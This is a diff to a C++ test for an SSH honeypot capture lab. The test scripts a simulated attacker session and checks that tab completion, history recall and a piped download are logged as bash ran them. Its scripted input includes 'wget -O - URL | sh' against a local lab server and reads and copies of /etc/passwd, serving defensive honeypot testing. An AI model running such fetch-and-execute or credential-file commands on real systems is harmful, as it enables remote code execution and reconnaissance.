@@ -3,8 +3,9 @@
 // OpenSSH's ssh -tt through a real pseudo-terminal and types at human speed. What the attacker did
 // (a wrong password, a typo fixed with backspace, a pipeline, KiBs of output, a C program built
 // with tcc, an scp upload over SFTP, a wget download) must come back in events.jsonl with the right
-// SHA-256s, in the transcript, and in session.cast as `asciinema cat` replays it; two concurrent
-// logins stay apart; a client killed mid-session gives a closed session.
+// SHA-256s, in the transcript, and in session.cast as `asciinema cat` replays it; tab completion,
+// history from before the session and `wget -O - URL | sh` read as the shell ran them; two
+// concurrent logins stay apart; a client killed mid-session gives a closed session.
 #include "vm/file_server.hpp"
 #include "vm/process.hpp"
 #include "vm/vm.hpp"
@@ -192,6 +193,8 @@ class SessionLab : public ::testing::Test {
       for (auto& ch : data) ch = static_cast<char>(rng());
       std::ofstream(work_ / file, std::ios::binary) << data;
     }
+    // The script the attacker pipes into sh (wget -O - URL | sh): never a file in the guest.
+    std::ofstream(work_ / "www" / "s.sh", std::ios::binary) << "#!/bin/sh\necho piped-script-ran-$((6 * 7))\n";
     auto srv = FileServer::start(work_ / "www");
     ASSERT_TRUE(srv.ok()) << srv.error().message;
     server_ = std::move(srv).value().release();
@@ -348,6 +351,86 @@ TEST_F(SessionLab, ScriptedAttackerSessionIsReconstructedFromOutside) {
     ++matched;
   }
   EXPECT_GT(matched, 150u);  // the ls output alone is 150 lines
+}
+
+// What real attackers type that the keys alone do not show: tab completion (one match, a listing
+// on the second TAB, then more keys), history recalled from before the session (bash's own
+// ~/.bash_history, read with history -r) with Up and with Ctrl-R, and a download piped into sh
+// that never touches a file. Each command must read as bash ran it; the piped download must carry
+// the URL and the served script's SHA-256. A cp (busybox may copy with sendfile) gives either the
+// right SHA-256 or content_captured: false, never a wrong hash.
+TEST_F(SessionLab, TabCompletionHistoryAndPipedDownloadReadAsTheShellRanThem) {
+  const fs::path out = work_ / "keys";
+  Watcher w(out);
+  ASSERT_TRUE(w.ready()) << w.log();
+  const std::string script_sha = sha256_of(work_ / "www" / "s.sh");
+  const std::string script =
+      "mkdir -p /tmp/tc && touch /tmp/tc/alpha-one /tmp/tc/alpha-two && cd /tmp\n"
+      "!keys cat /etc/pas<TAB><CR>\n"
+      "!keys ls /tmp/tc/al<TAB><TAB>t<TAB><CR>\n"
+      "echo 'echo from-old-history-77' >> ~/.bash_history\n"
+      "history -r\n"
+      "!keys <UP><CR>\n"
+      "!keys <C-r>old-hist<CR>\n"
+      "wget -O - http://10.0.2.100/s.sh | sh\n"
+      "cp /etc/passwd /tmp/pw-copy && sha256sum /etc/passwd\n"
+      "exit\n";
+  const auto a = attack("keys", script, work_ / "keys.screen");
+  ASSERT_EQ(a.exit_code, 0) << a.err;
+  std::this_thread::sleep_for(2s);
+  EXPECT_EQ(w.stop(), 0) << w.log();
+
+  const auto sessions = sessions_in(out);
+  ASSERT_EQ(sessions.size(), 1u) << w.log();
+  const auto ev = events_of(sessions[0]);
+  std::vector<std::string> inputs;
+  for (const auto& e : with_id(ev, "cowrie.command.input")) inputs.push_back(e.value("input", ""));
+  const std::vector<std::string> want = {
+      "mkdir -p /tmp/tc && touch /tmp/tc/alpha-one /tmp/tc/alpha-two && cd /tmp",
+      "cat /etc/passwd",
+      "ls /tmp/tc/alpha-two",
+      "echo 'echo from-old-history-77' >> ~/.bash_history",
+      "history -r",
+      "echo from-old-history-77",
+      "echo from-old-history-77",
+      "wget -O - http://10.0.2.100/s.sh | sh",
+      "cp /etc/passwd /tmp/pw-copy && sha256sum /etc/passwd",
+      "exit"};
+  EXPECT_EQ(inputs, want) << slurp(sessions[0] / "transcript.txt");
+  // What the shell ran, from its children's argv: the same lines.
+  std::set<std::string> ran;
+  for (const auto& e : with_id(ev, "hvtrace.process.exec")) {
+    std::string line;
+    for (const auto& arg : e.value("argv", json::array())) line += (line.empty() ? "" : " ") + arg.get<std::string>();
+    ran.insert(line);
+  }
+  EXPECT_TRUE(ran.count("cat /etc/passwd")) << "cat's argv";
+  EXPECT_TRUE(ran.count("ls /tmp/tc/alpha-two")) << "ls's argv";
+  const std::string t = slurp(sessions[0] / "transcript.txt");
+  EXPECT_NE(t.find("$ cat /etc/passwd\nroot:x:0:0:"), std::string::npos) << t.substr(0, 3000);
+  EXPECT_NE(t.find("piped-script-ran-42"), std::string::npos) << t.substr(0, 3000);
+
+  const auto down = with_id(ev, "cowrie.session.file_download");
+  ASSERT_EQ(down.size(), 1u) << w.log();
+  EXPECT_EQ(down[0].value("url", ""), "http://10.0.2.100/s.sh");
+  EXPECT_EQ(down[0].value("shasum", ""), script_sha);
+  EXPECT_EQ(down[0].value("size", 0u), fs::file_size(work_ / "www" / "s.sh"));
+  EXPECT_TRUE(down[0].value("pipe", false));
+  EXPECT_EQ(down[0].value("reader", ""), "sh");
+  ASSERT_TRUE(down[0].contains("outfile"));
+  EXPECT_EQ(sha256_of(down[0].value("outfile", "")), script_sha);
+
+  // cp: the right hash, or none (the bytes went through sendfile inside the kernel).
+  std::smatch m;
+  ASSERT_TRUE(std::regex_search(t, m, std::regex("([0-9a-f]{64})  /etc/passwd"))) << t.substr(0, 3000);
+  bool copy_seen = false;
+  for (const auto& e : with_id(ev, "hvtrace.file.write")) {
+    if (e.value("path", "") != "/tmp/pw-copy") continue;
+    copy_seen = true;
+    if (e.contains("shasum")) EXPECT_EQ(e.value("shasum", ""), m[1].str()) << e.dump();
+    else EXPECT_FALSE(e.value("content_captured", true)) << e.dump();
+  }
+  EXPECT_TRUE(copy_seen) << "cp's file";
 }
 
 TEST_F(SessionLab, TwoConcurrentLoginsGiveTwoSessionsWithNoCrossedLines) {
